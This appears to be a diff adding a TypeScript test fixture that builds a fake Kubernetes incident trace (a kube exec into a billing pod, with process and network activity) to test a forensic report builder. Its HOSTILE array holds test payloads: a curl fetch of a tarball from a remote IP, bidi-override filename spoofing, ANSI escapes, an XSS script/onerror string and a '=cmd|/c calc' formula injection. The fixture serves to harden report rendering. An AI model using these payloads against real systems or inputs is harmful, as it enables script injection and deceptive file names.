@@ -1,0 +1,165 @@
+/** A small trace with everything in it that a report can trip over. */
+import type { ActivityJson, CaseInfo, Graph, ProcessJson, RecordPlace, Trace } from '../../../workers/contract/engine';
+import { buildModel, type ReportModel, type ReportSource } from '../../../workers/report/model';
+
+export const HOSTILE = [
+  'curl -sSL -o /tmp/u.tgz https://198.51.100.23/u.tgz',
+  "echo 'Привет мир' Ελληνικά 漢字かな 한국어 中文简体",
+  'printf \u202egnp.exe\u001b[31m red\u0007',
+  'echo שלום עולם 123 مرحبا بالعالم abc',
+  'echo \u{10ffff}zero\u200bwidth\nsecond line',
+  'a'.repeat(300),
+  '<script>alert(1)</script><img src=x onerror=alert(1)> =cmd|/c calc',
+] as const;
+
+const start = Date.parse('2026-03-17T14:03:11Z');
+const at = (ms: number) => new Date(start + ms).toISOString().replace('Z', '482913Z');
+const record = (n: number): RecordPlace => ({ evidence: 'E2', member: 'node-2/tetragon.log', record: String(n) });
+
+function activity(i: number): ActivityJson {
+  const kind = i % 5 === 3 ? 'net' : i % 7 === 5 ? 'file' : 'cmd';
+  return {
+    id: `E2/node-2/tetragon.log:${90000 + i}`,
+    kind,
+    time: at(i * 1700),
+    precision: 'ns',
+    comm: 'curl',
+    pid: 41207 + (i % 5),
+    process: `p${i % 5}`,
+    records: [record(90000 + i)],
+    ...(kind === 'cmd' ? { cmdline: HOSTILE[i % HOSTILE.length] } : {}),
+    ...(kind === 'net' ? { direction: 'out', l4proto: 'tcp', server: '198.51.100.23', serverport: 443 } : {}),
+    ...(kind === 'file' ? { path: '/tmp/u.tgz', mode: 'write' } : {}),
+  };
+}
+
+const originator: ActivityJson = {
+  id: 'E1/cp-1/audit.log:18402',
+  kind: 'exec',
+  label: 'kube exec',
+  time: at(0),
+  end: at(60_000),
+  precision: 'us',
+  command: ['bash'],
+  container: 'main',
+  namespace: 'billing',
+  pod: 'billing-api-7d9c5b7f6-x2x4q',
+  deployment: 'billing-api',
+  cluster: 'prod-eu',
+  code: 101,
+  result: 'ok',
+  records: [
+    { evidence: 'E1', member: 'cp-1/audit.log', record: '18402' },
+    { evidence: 'E1', member: 'cp-1/audit.log', record: '18455' },
+  ],
+};
+
+function process(depth: number): ProcessJson {
+  return {
+    process: `p${depth}`,
+    parent: depth === 0 ? null : `p${depth - 1}`,
+    pid: 41207 + depth,
+    ppid: 1,
+    comm: 'bash',
+    cmdline: HOSTILE[depth] ?? 'bash',
+    start: at(depth * 1000),
+    end: null,
+    depth,
+    records: [record(90000 + depth)],
+  };
+}
+
+/** A trace with `rows` activities. */
+export function traceOf(rows: number): Trace {
+  const processes = [0, 1, 2, 3, 4].map(process);
+  return {
+    session: originator.id,
+    label: 'S-14',
+    originator,
+    confidence: 0.98,
+    certain: true,
+    why: [{ what: 'Exit meets ResponseComplete', detail: 'bash ends 36 ms before it', holds: true, records: [] }],
+    rivals: [],
+    considered: [{ session: 'S-12', confidence: 0.02, why: 'its shell ended six minutes before' }],
+    identity: {
+      user: 'johndoe',
+      groups: ['dev-billing', 'system:authenticated'],
+      impersonated: null,
+      clouduser: null,
+      sourceaddresses: ['192.0.2.1', '203.0.113.7'],
+      useragent: 'kubectl/v1.31.4 (linux/amd64)',
+      basis: 'client certificate',
+    },
+    root: processes[0] ?? null,
+    processes,
+    activities: Array.from({ length: rows }, (_, i) => activity(i)),
+    limits: ['What was typed is not recorded: shell built-ins leave no process.'],
+    coverage: [
+      {
+        source: 'Falco, node-2',
+        state: 'hits-only',
+        detail: 'The absence of commands proves nothing.',
+        first: null,
+        last: null,
+        gaps: [{ from: at(0), to: at(2400), why: '311 events reported lost' }],
+      },
+    ],
+  };
+}
+
+const info: CaseInfo = {
+  case: 'IR-2026-031 billing',
+  schema: 1,
+  version: '0.1.0',
+  readOnly: false,
+  evidence: [
+    {
+      id: 'E1',
+      name: 'audit-\u202eprod.tar.zst',
+      sha256: '9f31c0e752ab14d86e03b1f49c2280aad57e613bc4f0912e8a35d06777b2f90c',
+      bytes: 41_804_118,
+      already: false,
+      importedAt: '2026-03-17T19:40:55Z',
+      intake: { receivedFrom: 'SRE on duty' },
+      members: [],
+    },
+  ],
+  formats: {},
+  kinds: {},
+  activities: 0,
+  undated: 0,
+  first: null,
+  last: null,
+  coverage: [],
+  digest: 'd'.repeat(64),
+  evidenceDigest: 'e'.repeat(64),
+  analysisDigest: 'a'.repeat(64),
+  journal: { entries: 9, head: 'f'.repeat(64) },
+};
+
+function graph(startNs: bigint): Graph {
+  const wave = (of: (i: number) => number) => Float64Array.from({ length: 288 }, (_, i) => Math.max(0, Math.round(of(i))));
+  const flat = wave(() => 0);
+  const series = {
+    cmd: wave((i) => 20 + 8 * Math.sin(i)),
+    net: wave((i) => (i > 140 ? 900 : 30)),
+    exec: wave((i) => +(i % 31 === 0)),
+    file: wave(() => 3),
+    api: flat,
+    policy: flat,
+    policyHits: flat,
+  };
+  const counts = { cmd: 0, net: 0, exec: 0, file: 0, api: 0, policy: 0, policyHits: 0 };
+  return { startNs, widthNs: 300_000_000_000n, size: 288, series, counts, total: 0, undated: 0 };
+}
+
+export const source = (rows: number): ReportSource => ({
+  info: async () => info,
+  trace: async () => traceOf(rows),
+  places: async (places) =>
+    places.map((p, i) => ({ ...p, offset: 41_209_377 + i * 1000, length: 3112, sha256: 'b04fe1c2'.repeat(8) })),
+  graph: async (fromNs) => graph(fromNs),
+});
+
+export const model = (rows: number, created = '2026-03-18T08:00:00Z'): Promise<ReportModel> =>
+  buildModel(source(rows), { ids: [originator.id], format: 'pdf', created, question: 'Who entered billing-api on 17 March?' });
